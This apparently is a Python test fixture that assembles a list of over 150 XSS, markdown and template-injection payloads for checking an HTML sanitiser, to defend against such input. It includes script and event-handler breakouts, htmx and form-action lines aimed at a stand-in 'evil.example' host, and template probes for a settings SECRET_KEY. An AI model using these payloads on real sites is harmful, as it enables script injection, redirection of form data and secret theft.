"""What attackers write into names, subjects, mails: at least 150 ways (X-29, X-30, X-33)."""

from __future__ import annotations

from itertools import product

from tests.core.test_sanitiser import PAYLOADS as MARKUP

_QUOTES = ('"', "'", "`", "")
_BREAKS = (
    "><script>window.__xss=1</script>",
    "><img src=x onerror=window.__xss=1>",
    " onmouseover=window.__xss=1 x=",
    " autofocus onfocus=window.__xss=1 tabindex=1 x=",
    " style=position:fixed;inset:0 x=",
    " hx-get=https://evil.example hx-trigger=load x=",
    " data-hx-on:click=window.__xss=1 x=",
    "></title></textarea></style></noscript><svg onload=window.__xss=1>",
    "></script><script>window.__xss=1</script>",
    "><a href=javascript:window.__xss=1>evil</a>",
    "><base href=https://evil.example/>",
    "><form action=https://evil.example><button>x</button>",
)
_TEMPLATES = (
    "{{ 7|add:7 }}{% debug %}",
    "{{ settings.SECRET_KEY }}",
    "{ticket.customer.__class__.__init__.__globals__}",
    "${7*7}<%= 7*7 %>#{7*7}",
    "[x](javascript:window.__xss=1)",
    "[x](java\nscript:window.__xss=1)",
    "![x](data:text/html,<script>window.__xss=1</script>)",
    '![x](https://ok.example/a.png "onerror=window.__xss=1)',
    "<javascript:window.__xss=1>",
    "[a]: javascript:window.__xss=1\n[a]",
    "```html\n<script>window.__xss=1</script>\n```",
    "javascript:window.__xss=1",
    "data:text/html,<script>window.__xss=1</script>",
    'http://evil.example/"onmouseover=window.__xss=1',
    "www.evil.example/'><script>window.__xss=1</script>",
    "mailto:a@b.example?subject=<script>window.__xss=1</script>",
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    "&#60;script&#62;window.__xss=1&#60;/script&#62;",
    "\u202e<script>window.__xss=1</script>",
    "\ufeff<img src=x onerror=window.__xss=1>",
    "\uff1cscript\uff1ewindow.__xss=1\uff1c/script\uff1e",
    "</p></div></body></html><script>window.__xss=1</script>",
    "<!--><script>window.__xss=1</script-->",
    "]]><script>window.__xss=1</script>",
)
PAYLOADS = [
    *MARKUP,
    *(quote + rest for quote, rest in product(_QUOTES, _BREAKS)),
    *_TEMPLATES,
]
